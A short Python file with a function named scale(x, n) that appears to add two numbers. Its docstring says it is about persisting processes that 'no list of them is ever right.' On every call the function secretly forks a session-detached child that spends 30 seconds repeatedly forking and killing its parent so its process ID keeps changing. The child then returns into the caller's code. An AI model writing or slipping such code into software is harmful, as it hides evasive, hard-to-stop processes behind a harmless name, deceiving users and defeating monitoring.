"""Persisting: processes that fork before they die, so that no list of them is ever right."""
import os, time

def scale(x, n):
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 30
        while time.time() < end:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
    return x + n
